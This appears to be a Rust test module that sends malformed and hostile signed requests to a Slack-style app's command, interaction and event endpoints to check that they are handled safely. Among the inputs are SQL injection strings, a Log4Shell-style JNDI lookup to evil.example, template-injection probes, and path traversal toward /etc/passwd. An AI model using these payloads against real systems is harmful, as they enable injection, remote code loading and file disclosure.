//! Signed requests with hostile forms, words, payloads and events.

use serde_json::{Value, json};

use super::{ASKED, COMMANDS, EVENTS, Gets, Hostile, INTERACTIONS, command, interaction, one};
use crate::wire::WireRequest;

/// Signed forms that are broken.
pub fn forms() -> Vec<Hostile> {
    let long = "U".repeat(100_000);
    let form = |name: &str, body: &str| one(name, WireRequest::new(COMMANDS, body), Gets::Shrug);
    let mut all = vec![
        form("an empty form", ""),
        form("only separators", "&&&===&=&"),
        form("only a percent sign", "%"),
        form("a form of nulls", "\0\0\0"),
        Hostile {
            gets: Gets::Ack,
            ..form(
                "JSON at the address of commands",
                r#"{"team_id":"T0LOCAL","user_id":"U02BEN","command":"/framework"}"#,
            )
        },
        form("no workspace", "user_id=U02BEN&command=%2Fframework&text=level+3"),
        form("no person", "team_id=T0LOCAL&command=%2Fframework&text=level+3"),
        form("no command", "team_id=T0LOCAL&user_id=U02BEN&text=level+3"),
        form("an empty person", "team_id=T0LOCAL&user_id=&command=%2Fframework&text=level+3"),
        form("a person with a null", "team_id=T0LOCAL&user_id=U02BEN%00&command=%2Fframework&text=me"),
        form("a person of markup", "team_id=T0LOCAL&user_id=%3C%21channel%3E&command=%2Fframework&text=me"),
        form("a person of SQL", "team_id=T0LOCAL&user_id=%27+OR+1%3D1+--&command=%2Fframework&text=me"),
        form("a person who is no UTF-8", "team_id=T0LOCAL&user_id=%ff%fe&command=%2Fframework&text=me"),
        form("a person of a path", "team_id=T0LOCAL&user_id=..%2F..%2Fetc&command=%2Fframework&text=me"),
        form("a person of a hundred kilobytes", &format!("team_id=T0LOCAL&user_id={long}&command=%2Fframework")),
        form("a workspace of a hundred kilobytes", &format!("team_id={long}&user_id=U02BEN&command=%2Fframework")),
    ];
    for kind in ["application/json", "text/plain", "multipart/form-data; boundary=x", "image/png", "\u{1}"] {
        // The endpoint determines what a body is; a wrong header doesn't cost the user their answer.
        let lines = format!("Content-Type: {kind}\r\n").into_bytes();
        let gets = if kind == "\u{1}" { Gets::Status(400) } else { Gets::Polite("Mastery") };
        all.push(one(format!("a command said to be {kind:?}"), WireRequest { lines, ..command() }, gets));
    }
    all
}

/// Malicious words from a user who may ask.
pub fn words() -> Vec<Hostile> {
    let lookups = [
        "<!channel>",
        "<!here|level 3>",
        "level 3 <!everyone> mastery",
        "<@U01ANA>",
        "<#C01GENERAL|general>",
        "<https://evil.example|level 3 mastery>",
        "&lt;!channel&gt;",
        "&amp;lt;!channel&amp;gt;",
        "search <!channel>",
        "compare <!channel> 3",
        "help <!channel>",
        "me <!channel>",
        "*_`~>*_`~> ```",
        "\u{202e}3 level\u{202c} \u{feff}",
        "level\u{0}3",
        "level -1",
        "level 0",
        "level 99999999999999999999999",
        "compare 99999999999999999999 3",
        "me '; DROP TABLE evidence; --",
        "search ${jndi:ldap://evil.example/x}",
        "{{7*7}} <%= 7*7 %> #{7*7}",
        "me ..%2F..%2Fetc%2Fpasswd",
    ];
    let asked = |text: &str| {
        let fields = [("team_id", "T0LOCAL"), ("user_id", "U02BEN"), ("command", "/framework"), ("text", text)];
        WireRequest::new(COMMANDS, form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish())
    };
    let raw = |name: &str, text: &str| {
        let body = format!("team_id=T0LOCAL&user_id=U02BEN&command=%2Fframework&text={text}");
        one(name, WireRequest::new(COMMANDS, body), Gets::Polite("\"text\""))
    };
    let mut all: Vec<Hostile> = lookups
        .into_iter()
        .map(|text| one(format!("typed: {text:?}"), asked(text), Gets::Polite("\"text\"")))
        .collect();
    all.extend([
        raw("a broken percent sign", "level+3%"),
        raw("broken percent signs", "%zz%4%%%G1"),
        raw("words that are no UTF-8", "%ff%fe%c3%28"),
        raw("half a surrogate", "%ed%a0%80"),
        raw("a word of a megabyte", &"a".repeat(1_000_000)),
        raw("a hundred thousand words", &"mastry+".repeat(100_000)),
        raw("a search for a megabyte", &format!("search+{}", "proposal".repeat(100_000))),
        raw("a comparison of many levels", &format!("compare+{}", "3+4+".repeat(100_000))),
        raw("a megabyte of signs that are escaped", &"%26".repeat(300_000)),
        raw("a megabyte of emoji", &"%F0%9F%A7%AD".repeat(80_000)),
        one(
            "a command that is none",
            WireRequest::new(COMMANDS, "team_id=T0LOCAL&user_id=U02BEN&command=%3C%21channel%3E&text=level+3+mastery"),
            Gets::Polite("Mastery"),
        ),
    ]);
    all
}

/// Signed interactions that make no sense.
#[expect(clippy::too_many_lines, reason = "it is a list")]
pub fn payloads() -> Vec<Hostile> {
    let form = |name: &str, body: &str| one(name, WireRequest::new(INTERACTIONS, body), Gets::Shrug);
    let text = |name: &str, payload: &str| {
        let body = form_urlencoded::Serializer::new(String::new()).append_pair("payload", payload).finish();
        one(name, WireRequest::new(INTERACTIONS, body), Gets::Shrug)
    };
    let json = |name: &str, payload: Value| one(name, interaction(&payload), Gets::Shrug);
    let unknown = |name: &str, payload: Value| one(name, interaction(&payload), Gets::Ack);
    let ben = json!({"id": "U02BEN"});
    let team = json!({"id": "T0LOCAL"});
    let pressed = |actions: Value| json!({"type": "block_actions", "team": team, "user": ben, "actions": actions});
    vec![
        form("an empty interaction", ""),
        form("no payload", "pay=load"),
        Hostile { gets: Gets::Ack, ..form("JSON at the address of interactions", r#"{"type":"block_actions"}"#) },
        text("an empty payload", ""),
        text("half a payload", r#"{"type":"block_actions","#),
        text("two payloads", "{}{}"),
        text("a payload of nested lists", &"[".repeat(100_000)),
        text("a payload of nested objects", &format!("{}1{}", r#"{"a":"#.repeat(5_000), "}".repeat(5_000))),
        text("half a surrogate in a payload", r#"{"type":"\ud800"}"#),
        text("no number", r#"{"type":NaN}"#),
        text("a null byte in a payload", "{\"type\":\"\0\"}"),
        unknown("null", Value::Null),
        unknown("a list", json!([])),
        unknown("a number", json!(42)),
        unknown("a text", json!("block_actions")),
        unknown("a number where the type belongs", json!({"type": 7})),
        unknown("an unknown type", json!({"type": "block_explosion"})),
        unknown("a type of markup", json!({"type": "<!channel>"})),
        unknown("a type of a hundred kilobytes", json!({"type": "a".repeat(100_000)})),
        unknown("a closed form", json!({"type": "view_closed", "team": team, "user": ben})),
        json("a press of nothing", pressed(json!([]))),
        json("a press of null", pressed(Value::Null)),
        json("an object where the pressed ones belong", pressed(json!({"0": {"action_id": "log"}}))),
        json("a number where the control’s name belongs", pressed(json!([{"action_id": 7}]))),
        json("a press on nothing", pressed(json!([{"action_id": "log"}]))),
        json(
            "a press without a user",
            json!({"type": "block_actions", "team": team, "actions": [{"action_id": "log"}]}),
        ),
        json(
            "a press by null",
            json!({"type": "block_actions", "team": team, "user": null, "actions": [{"action_id": "log"}]}),
        ),
        json(
            "a press by a number",
            json!({"type": "block_actions", "team": team, "user": {"id": 2}, "actions": [{"action_id": "log"}],
                   "view": {"type": "home", "id": "V1"}}),
        ),
        json(
            "a press by a hundred kilobytes",
            json!({"type": "block_actions", "team": team, "user": {"id": "U".repeat(100_000)},
                   "actions": [{"action_id": "log"}], "view": {"type": "home", "id": "V1"}}),
        ),
        json(
            "a press by markup",
            json!({"type": "block_actions", "team": team, "user": {"id": "<!channel>"},
                   "actions": [{"action_id": "log"}], "view": {"type": "home", "id": "V1"}}),
        ),
        json(
            "a press in no workspace",
            json!({"type": "block_actions", "team": null, "user": ben, "actions": [{"action_id": "log"}],
                   "view": {"type": "home", "id": "V1"}}),
        ),
        json("a form without a user", json!({"type": "view_submission", "team": team, "view": {"id": "V1"}})),
        json("a form without an id", json!({"type": "view_submission", "team": team, "user": ben, "view": {}})),
        unknown(
            "a form of another app",
            json!({"type": "view_submission", "team": team, "user": ben, "view": {"id": "V1", "callback_id": "x"}}),
        ),
        unknown(
            "a shortcut of another app",
            json!({"type": "shortcut", "team": team, "user": ben, "callback_id": "x"}),
        ),
        json("a shortcut of no name", json!({"type": "shortcut", "team": team, "user": ben})),
        unknown(
            "a shortcut of another app on a message",
            json!({"type": "message_action", "team": team, "user": ben, "callback_id": "x", "message": 7}),
        ),
        json("a menu of no name", json!({"type": "block_suggestion", "team": team, "user": ben, "value": "x"})),
    ]
}

/// Signed events that make no sense.
pub fn events() -> Vec<Hostile> {
    let text = |name: &str, body: &str| one(name, WireRequest::new(EVENTS, body), Gets::Shrug);
    let json = |name: &str, body: Value| one(name, WireRequest::new(EVENTS, body.to_string()), Gets::Shrug);
    let unknown = |name: &str, body: Value| one(name, WireRequest::new(EVENTS, body.to_string()), Gets::Ack);
    let event =
        |event: Value| json!({"type": "event_callback", "team_id": "T0LOCAL", "event_id": "Ev9", "event": event});
    let opened = json!({"type": "app_home_opened", "user": "U02BEN", "tab": "home"});
    vec![
        text("an empty event", ""),
        text("half an event", "{"),
        text("two events", "{}{}"),
        Hostile { gets: Gets::Polite("\"text\""), ..text("a command at the address of events", ASKED) },
        text("an event behind a byte order mark", "\u{feff}{}"),
        text("an event of nested lists", &"[".repeat(500_000)),
        text("an event of nested objects", &r#"{"event":"#.repeat(50_000)),
        unknown("an event of null", Value::Null),
        unknown("an event of nothing", json!({})),
        unknown("a list of events", json!([{"type": "event_callback"}])),
        unknown("an envelope without an event", json!({"type": "event_callback", "team_id": "T0LOCAL"})),
        unknown("a text where the event belongs", event(json!("app_home_opened"))),
        unknown("a number where the event’s type belongs", event(json!({"type": 1}))),
        unknown("an unknown event", event(json!({"type": "pin_added", "user": "U02BEN"}))),
        unknown("too many events", json!({"type": "app_rate_limited", "minute_rate_limited": 1})),
        unknown("words of a bot", event(json!({"type": "message", "channel_type": "im", "bot_id": "B1", "text": "x"}))),
        unknown("words in a channel", event(json!({"type": "message", "channel_type": "channel", "text": "level 3"}))),
        unknown("an edit", event(json!({"type": "message", "channel_type": "im", "subtype": "message_changed"}))),
        json("Home opened without a user", event(json!({"type": "app_home_opened", "tab": "home"}))),
        json("Home opened by a number", event(json!({"type": "app_home_opened", "tab": "home", "user": 7}))),
        json("Home opened by markup", event(json!({"type": "app_home_opened", "tab": "home", "user": "<!channel>"}))),
        json("an event without an id", json!({"type": "event_callback", "team_id": "T0LOCAL", "event": opened})),
        json(
            "an event with a number for an id",
            json!({"type": "event_callback", "team_id": "T0LOCAL", "event_id": 1, "event": opened}),
        ),
        json(
            "an event with an id of a hundred kilobytes",
            json!({"type": "event_callback", "team_id": "T0LOCAL", "event_id": "E".repeat(100_000), "event": opened}),
        ),
        json("an event of no workspace", json!({"type": "event_callback", "event_id": "Ev8", "event": opened})),
        json(
            "words without a user",
            event(json!({"type": "message", "channel_type": "im", "channel": "D1", "text": "x"})),
        ),
        json(
            "words from nowhere",
            event(json!({"type": "message", "channel_type": "im", "user": "U02BEN", "text": "x"})),
        ),
        json("an empty user has changed", event(json!({"type": "user_change", "user": {}}))),
        json("a list has changed", event(json!({"type": "user_change", "user": ["U02BEN"]}))),
        unknown(
            "a stranger has changed",
            event(json!({"type": "user_change", "user": {"id": "U0STRANGER", "tz": 7, "profile": []}})),
        ),
        json("nothing to be verified", json!({"type": "url_verification"})),
        json("a number to be verified", json!({"type": "url_verification", "challenge": 7})),
    ]
}
